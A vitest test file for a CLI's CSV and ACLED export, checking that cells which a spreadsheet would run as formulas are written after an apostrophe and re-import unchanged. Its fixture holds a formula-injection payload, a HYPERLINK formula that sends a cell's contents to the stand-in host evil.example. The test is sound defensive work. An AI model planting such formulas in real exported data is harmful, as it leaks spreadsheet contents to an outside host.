// GIVEN entries whose text a spreadsheet would run as a formula (a title from a watched feed can
// be `=HYPERLINK(…)`) WHEN they are exported as CSV or ACLED data THEN each such cell is written
// after a `'`, so a spreadsheet shows it as text; and the CSV re-imports without a change.
import { parse } from 'csv-parse/sync';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { runExport } from '../../src/transfer/export-command.js';
import { runImport } from '../../src/transfer/import-command.js';
import { runProgram } from '../support/cli.js';
import { storeFingerprint } from '../support/store-fingerprint.js';
import { createTestApp, type TestApp } from '../support/test-app.js';

let app: TestApp;
let dir: string;
beforeEach(() => {
  app = createTestApp();
  dir = mkdtempSync(join(tmpdir(), 'sitrep-csv-formulas-'));
});
afterEach(() => {
  app.dispose();
  rmSync(dir, { recursive: true, force: true });
});

const env = () => ({ SITREP_DB: app.dbPath });
const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")';

function addFormulaEntries(): void {
  const stamp = { by: 'test', at: '2026-01-01T00:00:00Z' };
  const base = { topic: 'syria-israel', confidence: 'reported' as const, places: [], actors: [], tags: [], eventType: 'talks' as const };
  app.services.editor.addEntry({ ...base, title: HYPERLINK, summary: '@SUM(1+1)', start: { year: 2025, month: 8, day: 1 }, sources: [{ outlet: '+Wire', attribution: '-minus' }] }, stamp);
  // Text that starts with a `'` already, before a formula start: the import must not take that one off.
  app.services.editor.addEntry({ ...base, title: "'=quoted already", summary: "'plain", start: { year: 2025, month: 8, day: 2 }, sources: [{ outlet: 'Wire' }] }, stamp);
}

/** The CSV's records as a spreadsheet reads them, by column name. */
function records(path: string): Record<string, string>[] {
  return parse(readFileSync(path, 'utf8'), { columns: true }) as Record<string, string>[];
}

/** Cells a spreadsheet would run: starting with = + - @, a tab or a CR (a negative number is a number). */
const formulas = (rows: Record<string, string>[]) => rows.flatMap((row) => Object.values(row)).filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell));

describe('GIVEN entries whose title, summary or source starts like a formula', () => {
  it('WHEN exported as CSV THEN those cells start with a `\'`, and the file re-imports into the store as duplicates only', async () => {
    addFormulaEntries();
    const file = join(dir, 'export.csv');
    expect((await runProgram(runExport, ['--format', 'csv', '--out', file], env())).status).toBe(0);
    const rows = records(file);
    const first = rows.find((row) => row.title === `'${HYPERLINK}`)!;
    expect(first).toMatchObject({ summary: "'@SUM(1+1)", notes: "'@SUM(1+1)", outlet: "'+Wire", attribution: "'-minus", source: "'+Wire" });
    expect(rows.find((row) => row.date === '2025-08-02')).toMatchObject({ title: "''=quoted already", summary: "'plain" });
    expect(formulas(rows)).toEqual([]);

    const before = storeFingerprint(app.db);
    const result = await runProgram(runImport, [file], env());
    expect(result.stdout).toContain('Nothing to import from export.csv (csv): 0 accepted, 19 skipped, 0 rejected. Nothing was written.');
    expect(result.stdout).not.toContain('correct');
    expect(storeFingerprint(app.db)).toBe(before);
  });

  it('WHEN exported as ACLED data THEN no cell is a formula, and coordinates stay numbers', async () => {
    addFormulaEntries();
    const file = join(dir, 'acled.csv');
    expect((await runProgram(runExport, ['--format', 'acled', '--out', file], env())).status).toBe(0);
    const rows = records(file);
    expect(rows.find((row) => row.source === "'+Wire")).toBeDefined();
    expect(formulas(rows)).toEqual([]);
    expect(rows.map((row) => row.latitude ?? '').filter(Boolean).every((cell) => /^-?\d+\.\d+$/.test(cell))).toBe(true);
  });
});
